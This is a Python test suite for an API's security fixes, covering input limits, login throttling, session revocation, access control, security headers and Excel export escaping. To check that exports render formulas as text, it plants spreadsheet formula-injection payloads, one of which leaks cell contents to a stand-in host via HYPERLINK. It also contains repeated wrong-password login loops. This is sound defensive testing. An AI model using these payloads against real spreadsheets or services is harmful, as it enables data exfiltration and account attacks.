"""Issue #17 findings on the API, each a test that failed before the fix: 500s from input (6), length
and body limits (10), log-in throttling and constant-time rejection (7), sessions that end (9), who may
match a named company (12), ticket + phone lookups (12), formula-safe exports (4), security headers and
vendored docs (13), and the contract every route declares (#18)."""
from __future__ import annotations

import io
import json

import pytest
from huiqi.token_digest import chat_metadata, token_digest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from ledger.db import connect
from ledger.demo import credit_code_of
from tests.fixtures.demo_env import demo_env

P = "/api/v1"
SHUNDA = credit_code_of("shunda")      # paired with zhangwei
EROAD = credit_code_of("eroad")


@pytest.fixture(scope="module")
def app_env(tmp_path_factory):
    with demo_env(tmp_path_factory.mktemp("security")) as settings:
        yield settings


def fresh_app_client(app_env) -> TestClient:
    from api.app import create_app

    return TestClient(create_app(), raise_server_exceptions=False)


@pytest.fixture
def client(app_env):
    """A fresh app per test, with no failed log-ins on record (the throttle counts them in the ledger)."""
    db = connect(settings=app_env)
    if "login_failures" in db.table_names():
        db.execute("DELETE FROM login_failures")
    db.close()
    with fresh_app_client(app_env) as c:
        yield c


def login(client, user, pw) -> dict:
    r = client.post(f"{P}/auth/token", data={"username": user, "password": pw})
    assert r.status_code == 200, r.text
    return {"Authorization": f"Bearer {r.json()['access_token']}"}


def ent_login(client, key) -> dict:
    r = client.post(f"{P}/auth/enterprise-token", data={"credit_code": credit_code_of(key), "password": "Qiye@2026"})
    assert r.status_code == 200, r.text
    return {"Authorization": f"Bearer {r.json()['access_token']}"}


def assert_error(r, status: int, code: str | None = None):
    assert r.status_code == status, r.text[:300]
    body = r.json()
    assert set(body) <= {"code", "message", "fields"} and body["code"] and body["message"]
    assert any("\u4e00" <= ch <= "\u9fff" for ch in body["message"]), body  # a Chinese message
    if code:
        assert body["code"] == code, body


# ---- finding 6: 500s from input ---------------------------------------------------------------
@pytest.mark.parametrize("param", ["offset", "limit"])
def test_huge_integers_in_query_are_422_not_500(client, param):
    admin = login(client, "admin", "Admin@2026")
    r = client.get(f"{P}/problems", params={param: 2**63}, headers=admin)
    assert_error(r, 422, "VALIDATION_ERROR")
    assert r.json()["fields"][0]["field"] == param


def test_huge_integer_path_ids_are_422_not_500(client):
    admin = login(client, "admin", "Admin@2026")
    assert_error(client.get(f"{P}/pushes/{2**63}", headers=admin), 422, "VALIDATION_ERROR")


def test_lone_surrogates_are_422(client):
    admin = login(client, "admin", "Admin@2026")
    raw = '{"category": "其他", "description": "有个问题\\ud800想反映", "claimant_name": "张三", "claimant_phone": "13912345678"}'
    r = client.post(f"{P}/problems", content=raw.encode(), headers={**admin, "Content-Type": "application/json"})
    assert_error(r, 422, "VALIDATION_ERROR")
    assert "代理字符" in r.json()["message"]


def test_a_reminder_event_without_a_note_is_not_a_500(client):
    # found by the contract test: the event types' required-field table had no entry for a reminder
    admin = login(client, "admin", "Admin@2026")
    ticket = client.get(f"{P}/problems", params={"credit_code": SHUNDA}, headers=admin).json()[0]["ticket_no"]
    r = client.post(f"{P}/problems/{ticket}/events", json={"type": "reminder"}, headers=admin)
    assert r.status_code in (200, 409), r.text
    if r.status_code == 409:
        assert_error(r, 409)


def test_match_with_a_non_text_region_is_422(client):
    r = client.post(f"{P}/policies/match", json={"profile": {"region": 12345, "industry": "道路货运"}})
    assert_error(r, 422, "VALIDATION_ERROR")


@pytest.mark.parametrize("path", [f"{P}/problems", f"{P}/policies/match", f"{P}/policies/search"])
def test_a_json_array_as_the_body_is_422(client, path):
    admin = login(client, "admin", "Admin@2026")
    assert_error(client.post(path, json=[1, 2, 3], headers=admin), 422, "VALIDATION_ERROR")


# ---- finding 10: length and body limits ---------------------------------------------------------
@pytest.mark.parametrize("path,body", [
    (f"{P}/staff", {"login": "longname", "name": "名" * 10_000, "role": "cadre", "office": "运输服务科",
                    "password": "Cadre@2026x"}),
    (f"{P}/enterprises/{SHUNDA}/visits", {"occasion": "日常走访", "visited_on": "2026-11-02", "notes": "记" * 100_000}),
    (f"{P}/pairings", {"credit_code": SHUNDA, "login": "zhangwei", "note": "备" * 100_000}),
])
def test_overlong_text_is_refused_and_not_stored(client, app_env, path, body):
    admin = login(client, "admin", "Admin@2026")
    before = app_env.ledger_path.stat().st_size
    r = client.post(path, json=body, headers=admin)
    assert_error(r, 422, "VALIDATION_ERROR")
    assert "太长" in r.json()["message"]
    assert app_env.ledger_path.stat().st_size <= before + 64 * 1024


def test_update_enterprise_address_is_bounded(client):
    admin = login(client, "admin", "Admin@2026")
    r = client.put(f"{P}/enterprises/{SHUNDA}", json={"address": "路" * 10_000}, headers=admin)
    assert_error(r, 422, "VALIDATION_ERROR")


def test_an_oversized_body_is_refused_before_authentication(client):
    big = json.dumps({"category": "其他", "description": "很" * (2 * 1024 * 1024)}).encode()
    r = client.post(f"{P}/problems", content=big, headers={"Content-Type": "application/json"})
    assert_error(r, 413, "BODY_TOO_LARGE")  # not 401: the size is refused first


def test_an_oversized_chunked_body_is_refused(client):
    def chunks():  # no Content-Length: the size is counted as the body streams in
        for _ in range(3):
            yield b" " * (1024 * 1024)

    r = client.post(f"{P}/problems", content=chunks(), headers={"Content-Type": "application/json"})
    assert "content-length" not in r.request.headers
    assert_error(r, 413, "BODY_TOO_LARGE")


# ---- finding 7: log-in throttling, constant-time rejection -----------------------------------------
def test_wrong_passwords_lock_the_account_with_a_chinese_retry_time_and_an_event(client, app_env):
    for _ in range(5):
        r = client.post(f"{P}/auth/token", data={"username": "liuyang", "password": "wrong-password"})
    assert_error(r, 429, "LOGIN_LOCKED")
    assert "再试" in r.json()["message"] and int(r.headers["Retry-After"]) > 60
    # the right password does not get through while the account is locked
    r = client.post(f"{P}/auth/token", data={"username": "liuyang", "password": "Cadre@2026"})
    assert_error(r, 429, "LOGIN_LOCKED")
    # other accounts are not locked by it
    login(client, "zhaolei", "Cadre@2026")
    db = connect(settings=app_env)
    rows = db.execute("SELECT actor, note FROM events WHERE type = 'login_lockout' AND to_value = 'staff:liuyang'").fetchall()
    db.close()
    assert rows and rows[-1][0] == "system" and "锁定" in rows[-1][1]


def test_a_lock_out_holds_in_every_api_process_and_after_a_restart(client, app_env):
    """The API runs several worker processes: failures counted by one lock the account in all of them."""
    for _ in range(5):
        r = client.post(f"{P}/auth/token", data={"username": "zhaolei", "password": "wrong-password"})
    assert_error(r, 429, "LOGIN_LOCKED")
    with fresh_app_client(app_env) as other_process:
        r = other_process.post(f"{P}/auth/token", data={"username": "zhaolei", "password": "Cadre@2026"})
        assert_error(r, 429, "LOGIN_LOCKED")
        login(other_process, "liuyang", "Cadre@2026")  # only that account


def test_many_failures_from_one_address_lock_that_address(client):
    for i in range(20):
        r = client.post(f"{P}/auth/enterprise-token", data={"credit_code": f"9162010{i:011d}", "password": "x" * 8})
    assert_error(r, 429, "LOGIN_LOCKED")
    assert "网络地址" in r.json()["message"]


def test_an_unknown_account_costs_the_same_password_check(client, monkeypatch):
    from ledger import passwords

    calls = []
    real = passwords._hasher

    class Counting:
        def verify(self, stored, password):
            calls.append(stored)
            return real.verify(stored, password)

    monkeypatch.setattr(passwords, "_hasher", Counting())
    r = client.post(f"{P}/auth/token", data={"username": "nosuchuser", "password": "whatever1"})
    assert_error(r, 401, "BAD_CREDENTIALS")
    r = client.post(f"{P}/auth/enterprise-token", data={"credit_code": "91620100MA7XXXXX0X", "password": "whatever1"})
    assert_error(r, 401, "BAD_CREDENTIALS")
    assert len(calls) == 2  # one argon2 verification each, as for a known account


# ---- finding 9: sessions that end ---------------------------------------------------------------------
def test_staff_log_out_ends_the_token(client):
    me = login(client, "chenjing", "Cadre@2026")
    assert client.get(f"{P}/auth/me", headers=me).status_code == 200
    assert client.post(f"{P}/auth/logout", headers=me).json() == {"logged_out": True}
    assert_error(client.get(f"{P}/auth/me", headers=me), 401, "UNAUTHENTICATED")


@pytest.mark.parametrize("change", [{"password": "Changed@2026"}, {"active": False}, {"role": "leader"}])
def test_password_reset_deactivation_and_role_change_end_sessions(client, change):
    admin = login(client, "admin", "Admin@2026")
    login_name = f"temp{abs(hash(json.dumps(change))) % 10_000}"
    r = client.post(f"{P}/staff", json={"login": login_name, "name": "临时", "role": "cadre", "office": "运输服务科",
                                        "password": "Temp@20261"}, headers=admin)
    assert r.status_code == 201, r.text
    theirs = login(client, login_name, "Temp@20261")
    assert client.get(f"{P}/auth/me", headers=theirs).status_code == 200
    assert client.put(f"{P}/staff/{login_name}", json=change, headers=admin).status_code == 200
    assert_error(client.get(f"{P}/auth/me", headers=theirs), 401, "UNAUTHENTICATED")


def test_enterprise_password_reset_ends_its_sessions(client):
    admin = login(client, "admin", "Admin@2026")
    theirs = ent_login(client, "longyun")
    assert client.get(f"{P}/problems", headers=theirs).status_code == 200
    r = client.post(f"{P}/enterprises/{credit_code_of('longyun')}/account", json={"password": "Qiye@2026"},
                    headers=admin)
    assert r.status_code == 204
    assert_error(client.get(f"{P}/problems", headers=theirs), 401, "UNAUTHENTICATED")


def test_enterprise_log_out_ends_the_conversations_identity(client, app_env):
    """After the chat page's log-out the old token no longer identifies the business, neither with the
    token nor for a later message without one in the same conversation."""
    from rasa_sdk import Tracker

    from actions import context
    from ledger import chat_sessions

    headers = ent_login(client, "anning_repair")
    token = headers["Authorization"].split()[1]
    sender = "conv-logout-test"

    def tracker(*messages):
        evs = [{"event": "user", "text": t, "metadata": m} for t, m in messages]
        return Tracker(sender, {}, {"text": messages[-1][0], "metadata": messages[-1][1]}, evs, False, None, {}, "")

    assert context.identify(tracker(("你好", chat_metadata({"token": token})))) is not None
    # the digest alone, as a client could copy it from the tracker store, is dropped at the channel
    assert context.identify(tracker(("你好", chat_metadata({"token_digest": token_digest(token)})))) is None
    db = connect(settings=app_env)
    chat_sessions.touch(db, sender, credit_code_of("anning_repair"))
    db.close()
    r = client.post(f"{P}/chat/sessions/{sender}/close", headers=headers)
    assert r.status_code == 200 and r.json()["closed"] is True
    assert context.identify(tracker(("你好", chat_metadata({"token": token})))) is None
    assert context.identify(tracker(("你好", chat_metadata({"token": token})), ("我的诉求", {}))) is None
    assert_error(client.get(f"{P}/problems", headers=headers), 401, "UNAUTHENTICATED")


# ---- finding 12: a named company's profile, ticket + phone ---------------------------------------------
@pytest.mark.parametrize("who,status", [("none", 401), ("own", 200), ("other_ent", 404), ("cadre", 200),
                                        ("other_cadre", 404), ("admin", 200)])
def test_match_by_credit_code_needs_staff_who_see_it_or_the_company(client, who, status):
    headers = {"none": lambda: {}, "own": lambda: ent_login(client, "shunda"),
               "other_ent": lambda: ent_login(client, "eroad"), "cadre": lambda: login(client, "zhangwei", "Cadre@2026"),
               "other_cadre": lambda: login(client, "chenjing", "Cadre@2026"),
               "admin": lambda: login(client, "admin", "Admin@2026")}[who]()
    r = client.post(f"{P}/policies/match", json={"credit_code": SHUNDA}, headers=headers)
    assert r.status_code == status, r.text[:200]
    if status == 200:
        assert r.json()["profile"]["credit_code"] == SHUNDA
    else:
        assert_error(r, status)


def test_ticket_and_contact_phone_do_not_open_a_companys_problem(app_env):
    from huiqi.errors import NotFound
    from ledger import problems
    from ledger.actors import SYSTEM
    from ledger.enterprises import get_enterprise

    db = connect(settings=app_env)
    try:
        phone = get_enterprise(db, SHUNDA)["contact_phone"]
        filed = problems.file_problem(db, actor=SYSTEM, category="其他", description="企业的诉求，外人不应看到",
                                      credit_code=SHUNDA, contact_phone=phone, settings=app_env)
        with pytest.raises(NotFound, match="企业登录后查询"):
            problems.find_for_claimant(db, filed["ticket_no"], phone, settings=app_env)
        anonymous = problems.file_problem(db, category="其他", description="个人反映的问题",
                                          claimant_name="王五", claimant_phone="13700001111", settings=app_env)
        assert problems.find_for_claimant(db, anonymous["ticket_no"], "13700001111")["ticket_no"] == anonymous["ticket_no"]
    finally:
        db.close()


# ---- finding 4: exports that cannot execute ----------------------------------------------------------
def test_dossier_workbook_writes_formulas_as_text(client):
    admin = login(client, "admin", "Admin@2026")
    planted = ['=HYPERLINK("http://x.example/?leak="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
    for text in planted:
        r = client.post(f"{P}/problems", json={"category": "其他", "description": text + " 这是问题描述",
                                               "claimant_name": "某人", "claimant_phone": "13912340000",
                                               "claimed_credit_code": SHUNDA}, headers=admin)
        assert r.status_code == 201, r.text
    r = client.get(f"{P}/enterprises/{SHUNDA}/dossier.xlsx", headers=admin)
    wb = load_workbook(io.BytesIO(r.content))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    described = [c.value for c in cells if isinstance(c.value, str) and "这是问题描述" in c.value]
    assert len(described) == len(planted)
    assert all(v.startswith("'") for v in described)


def test_control_characters_in_user_text_do_not_break_the_workbook(client):
    # found by the contract test: a visit note with a control character made the .xlsx a 500
    cadre = login(client, "zhangwei", "Cadre@2026")
    r = client.post(f"{P}/enterprises/{SHUNDA}/visits", json={"occasion": "日常走访", "visited_on": "2026-01-05",
                                                               "notes": "走访\x01情况\x1f良好 无问题"}, headers=cadre)
    assert r.status_code == 201, r.text
    r = client.get(f"{P}/enterprises/{SHUNDA}/dossier.xlsx", headers=cadre)
    assert r.status_code == 200, r.text
    notes = [c.value for c in load_workbook(io.BytesIO(r.content))["走访记录"]["D"]]
    assert "走访情况良好 无问题" in notes


# ---- finding 13: security headers, vendored docs ------------------------------------------------------
@pytest.mark.parametrize("path", ["/", "/docs", "/healthz", "/api/v1/problems", "/static/chat.js"])
def test_security_headers_on_every_page(client, app_env, path):
    r = client.get(path)
    csp = r.headers["content-security-policy"]
    assert "script-src 'self'" in csp and "frame-ancestors 'none'" in csp
    assert app_env.rasa_url in csp and app_env.rasa_url.replace("http", "ws", 1) in csp  # the chat's socket.io
    assert r.headers["x-content-type-options"] == "nosniff"
    assert r.headers["referrer-policy"] == "no-referrer"


def test_docs_load_nothing_from_a_cdn(client):
    page = client.get("/docs").text
    assert "cdn" not in page.lower() and "<script>" not in page
    assert client.get("/static/vendor/swagger-ui/swagger-ui-bundle.js").status_code == 200
    assert client.get("/static/vendor/swagger-ui/LICENSE").status_code == 200
    assert client.get("/redoc").status_code == 404


# ---- contract (#18): every route has a response schema and declares its errors ------------------------
def test_every_route_declares_a_response_schema_and_its_errors_in_the_error_schema(client):
    spec = client.get("/openapi.json").json()
    missing, undeclared = [], []
    for path, ops in spec["paths"].items():
        for method, op in ops.items():
            ok = [s for s in op["responses"] if s.startswith("2")]
            content = op["responses"][ok[0]].get("content", {}) if ok else {}
            schema = next(iter(content.values()), {}).get("schema", {}) if content else {}
            if ok[0] != "204" and not schema:
                missing.append(f"{method} {path}")
            for status in ("422", "500"):
                ref = op["responses"].get(status, {}).get("content", {}).get("application/json", {}).get("schema", {})
                if ref.get("$ref", "").split("/")[-1] != "ErrorOut":
                    undeclared.append(f"{method} {path} {status}")
    assert not missing, missing
    assert not undeclared, undeclared
